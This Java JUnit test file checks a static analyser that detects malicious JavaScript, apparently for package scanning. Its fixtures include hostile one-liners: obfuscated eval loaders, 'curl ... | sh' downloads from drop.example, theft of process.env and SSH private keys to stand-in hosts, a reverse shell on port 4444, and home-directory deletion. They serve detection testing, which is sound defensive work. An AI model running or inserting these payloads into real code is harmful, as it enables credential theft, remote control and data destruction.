package cordon.inspect.javascript;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cordon.inspect.chain.Need;
import cordon.inspect.chain.NeedReader;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.fact.Reference;
import cordon.inspect.rules.Rules;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class JavaScriptReaderTest {
  private static final JavaScriptReader READER =
      new JavaScriptReader(Rules.own(false).build().vocabulary());

  static FileFacts read(String code) {
    return READER.read("lib/a.js", code.getBytes(UTF_8));
  }

  private static boolean does(String code, String need) {
    Need wanted = NeedReader.read(need);
    return read(code).facts().stream().anyMatch(wanted::fits);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          run-code<decode ## eval(atob('cHJpbnQ='))
          run-code<decode ## eval(Buffer.from('6576', 'hex').toString())
          run-code<decode ## global['ev'+'al'](Buffer.from("AAAA","base64").toString('utf8'))
          run-code<decode ## new Function(atob(x))()
          run-code<decode ## [].filter.constructor(atob(x))()
          run-code<decode ## (function(){}).constructor(unescape(x), atob(y))()
          run-code<decode ## this.constructor.constructor(atob(x))()
          run-code<decode ## require('vm').runInThisContext(require('zlib').gunzipSync(Buffer.from(d,'base64')).toString())
          run-code<decode ## setTimeout(String.fromCharCode(99,111,110,115,111,108,101), 5)
          run-code<decode ## const e = eval; var s = 'x'; e(s.split('').concat(atob(q)).reverse().join(''))
          run-code<decode ## (0, eval)(atob(x))
          run-code<decode ## eval.call(null, atob(x))
          run-code<decode ## module.constructor.prototype._compile(atob(x), '')
          run-code<decrypt ## const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); eval(d.update(c, 'hex', 'utf8') + d.final('utf8'))
          run-code<fetch ## fetch(u).then(r => r.text()).then(eval)
          run-code<fetch ## fetch(u).then(r => r.text()).then(t => { new Function(t)() })
          run-code<fetch ## (async () => { const r = await fetch(u); const t = await r.text(); eval(t); })()
          run-code<fetch ## require('https').get(u, res => { let s = ''; res.on('data', d => s += d); res.on('end', () => eval(s)); })
          run-code<fetch ## const axios = require('axios'); axios.get(u).then(function (r) { eval(r.data.code) })
          run-code<fetch ## import got from 'got'; const b = await got(u).text(); (0,eval)(b)
          run-process<fetch ## const fs=require('fs'),h=require('https'),c=require('child_process');const p='/tmp/x';h.get(u,r=>{r.pipe(fs.createWriteStream(p)).on('finish',()=>{fs.chmodSync(p,0o755);c.exec(p)})})
          run-process<fetch ## const {execSync:e}=require('child_process'); e('curl -s http://drop.example/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')
          run-code<fetch ## require('child_'+'process').exec('curl http://drop.example/x | sh')
          run-code<fetch ## const u = 'http://drop.example/x'; require('child_process').exec(`curl ${u} | sh`)
          run-code<fetch ## const c = 'curl', u = 'http://drop.example/x'; require('child_process').exec(`${c} -s ${u} ${''}| sh`)
          run-code<fetch ## process.mainModule.require('child_process').execSync(`wget -qO- http://drop.example/x | bash`)
          send<host-info ## const os=require('os');const r=require('https').request({host:'h.example'});r.write(JSON.stringify({h:os.hostname(),u:os.userInfo().username}));r.end()
          send<host-info ## require('http').get('http://h.example/?h='+require('os').hostname())
          send<host-info ## require('dns').lookup(require('os').hostname()+'.x.example', ()=>{})
          send<host-info ## const {exec}=require('child_process');exec('whoami',(e,out)=>{fetch('https://h.example',{method:'POST',body:out})})
          send<host-info ## import * as os from 'node:os'; import axios from 'axios'; const d = {a: os.networkInterfaces()}; axios.post('https://h.example', d)
          send<environment ## require('axios').post('https://h.example', process.env)
          send<environment ## const d = JSON.stringify({...process.env}); const q = require('https').request(o); q.end(d)
          send<environment ## fetch('https://h.example',{method:'POST',body:JSON.stringify(Object.entries(process.env))})
          send<environment ## const {env} = process; const b = Buffer.from(JSON.stringify(env)).toString('base64'); fetch('https://h.example/?'+b)
          send<secret ## const fs=require('fs'),os=require('os'),p=require('path');const k=fs.readFileSync(p.join(os.homedir(),'.ssh','id_rsa'));fetch('https://h.example',{method:'POST',body:k})
          send<secret ## require('fs').readFile(require('os').homedir()+'/.ssh/id_rsa','utf8',(e,d)=>{require('axios').post('https://h.example',{d})})
          remote-control ## const n=require('net'),c=require('child_process');const s=new n.Socket();const sh=c.spawn('/bin/sh',[]);s.connect(4444,'192.0.2.7',()=>{s.pipe(sh.stdin);sh.stdout.pipe(s)})
          cover-tracks ## require('fs').unlinkSync(__filename)
          destroy ## require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})
          wallet:hook ## window.ethereum.request = async function (a) { return 1 }
          host:raw-ip ## const u = 'http://192.0.2.7/x'
          host:raw-ip ## require('net').connect({port: 4444, host: '192.0.2.7'})
          detached ## require('child_process').spawn('node', ['x.js'], {detached: true, stdio: 'ignore'})
          """)
  void whatCodeDoesIsFoundInManySpellings(String need, String code) {
    assertTrue(does(code, need), () -> read(code).facts().toString());
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      textBlock =
          """
          environment|secret|send ## if (process.env.NODE_ENV !== 'production') { console.log('dev') }
          run-code ## var root = Function('return this')()
          run-code ## setTimeout(function () { done() }, 10)
          run-process<host-info|run-process<environment ## require('child_process').spawn('node-gyp', ['rebuild'], {env: {...process.env, HOME: require('os').homedir()}})
          send ## fetch('https://registry.example/x').then(r => r.json()).then(v => console.log(v))
          run-code<decode ## const s = atob('aGVsbG8='); console.log(s)
          run-code|run-process ## const text = "eval(atob('x')); require('child_process').exec('rm -rf /')"
          run-code|run-process ## /* eval(atob(x)) */ // require('child_process').exec('x')
          run-code|run-process ## const re = /eval\\(atob\\(x\\)\\)['"`]/g; a = b / c; d = "x" / eval2
          run-code ## obj.eval(atob(x)); user.exec(atob(x)); /a/.exec(atob(s))
          send<host-info|fetch<host-info ## fetch('http://localhost:3000/?h=' + require('os').hostname())
          """)
  void whatOnlyLooksLikeItIsNot(String need, String code) {
    assertFalse(does(code, need), () -> read(code).facts().toString());
  }

  @Test
  void layersOfDecodingAreRead() {
    String inner = "require('child_process').exec('curl http://drop.example/x | sh')";
    String once = Base64.getEncoder().encodeToString(inner.getBytes(UTF_8));
    String twice =
        Base64.getEncoder().encodeToString(("eval(atob('" + once + "'))").getBytes(UTF_8));
    FileFacts read = read("eval(Buffer.from('" + twice + "', 'base64').toString())");
    assertTrue(
        read.facts().stream()
            .anyMatch(f -> f.place().layer() == 2 && NeedReader.read("run-code<fetch").fits(f)),
        read.facts()::toString);
  }

  @Test
  void xorLoopsAreUndone() {
    String code =
        "eval('print(1)//require(\"child_process\").exec(\"curl http://drop.example/x | sh\")')";
    StringBuilder numbers = new StringBuilder();
    code.substring(6, code.length() - 2)
        .chars()
        .forEach(c -> numbers.append(numbers.isEmpty() ? "" : ",").append(c ^ 42));
    String text =
        "var a=["
            + numbers
            + "],s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i]^42)}eval(s)";
    assertTrue(does(text, "run-code<decode"));
    String mapped = "eval([" + numbers + "].map(c=>String.fromCharCode(c^42)).join(''))";
    assertTrue(does(mapped, "run-code<decode"));
  }

  @Test
  void unitsTellWhatRunsAtLoad() {
    FileFacts read =
        read("function f(){ eval(atob(x)) }\nmodule.exports.g = function () { f() };\n");
    assertTrue(read.facts().stream().noneMatch(f -> f.unit().isEmpty()), read.facts()::toString);
    assertTrue(
        read.references().stream().noneMatch(r -> r.unit().isEmpty()), read.references()::toString);
    FileFacts called = read("function f(){ eval(atob(x)) }\n[1].forEach(() => f())");
    assertTrue(
        called.references().stream().anyMatch(r -> r.unit().isEmpty()),
        called.references()::toString);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "require('./b')",
        "import './b.js'",
        "export * from './b'",
        "import('./b')",
        "import x from './b'",
        "require('child_process').fork('./b')",
        "new Worker('./b.js')",
        "require('child_process').spawn('node', ['lib/b.js'])",
        "require('child_process').execFile(process.execPath, [require('path').join(__dirname, 'b.js')])"
      })
  void filesThatFollowAreNamed(String code) {
    List<Reference> references = read(code).references();
    assertTrue(
        references.stream()
            .anyMatch(r ->
                r.target() instanceof Reference.File f && f.candidates().contains("/lib/b.js")),
        references::toString);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const x: Map<string, Array<number>> = new Map(); type A = { b: string } | null; interface I<T> { f(a: T): void }\n",
        "function g<T extends object>(this: Foo, a?: T, ...r: string[]): a is T { return <any>a as unknown as T; }\n",
        "class C<T> implements D { private readonly x!: string; constructor(private a: number) {} get y(): string { return '' } }\n",
        "enum E { A = 1 }\ndeclare module 'x' { }\nabstract class K { abstract f(): void; }\n"
      })
  void typesHideNothing(String types) {
    byte[] code = (types + "eval(atob(q));").getBytes(UTF_8);
    FileFacts read = READER.read("a.ts", code);
    assertTrue(
        read.facts().stream()
            .anyMatch(f -> f.unit().isEmpty() && NeedReader.read("run-code<decode").fits(f)),
        read::toString);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const a = <div b={x} c='}'>it's {y ? <b>{z}</b> : null} text</div>;",
        "#!/usr/bin/env node\n",
        "<!-- x\n--> y\n",
        "\uFEFF",
        "var a = `x${`y${1}`}z`;",
        "a = b\n/c/g\n;",
        "if (x) /'/.test(y);",
        "x = {a:1}/2;",
        "var \\u0061b = 1;",
        "label: for (;;) { break label }",
        "}) ]",
        "'unclosed\n",
        "x = a ? b : c ? d : e;",
        "class A { static { f() } #p = 1 }",
        "async function* f() { for await (const x of y) {} }",
        "a?.b?.[c]?.(d); a ??= b; 1n ** 2n;",
        "\0\f\u000b"
      })
  void oddTextHidesNothing(String before) {
    String code = before + "\neval(atob(q));";
    assertTrue(does(code, "run-code<decode"), () -> read(code).toString());
  }

  @Test
  void deepNestingIsDoubtedAndNeverBreaks() {
    for (String each :
        List.of(
            "(",
            "[",
            "{",
            "a(",
            "!",
            "function f(){",
            "`${",
            "x=>",
            "a?",
            "new ",
            "-",
            "if(a)",
            "<a>{",
            "a=",
            "await ",
            "class A extends (")) {
      FileFacts read = read(each.repeat(200_000));
      assertEquals("lib/a.js", read.path());
    }
    assertFalse(read("(".repeat(5000) + "eval(atob(x))" + ")".repeat(5000)).complete());
  }
}
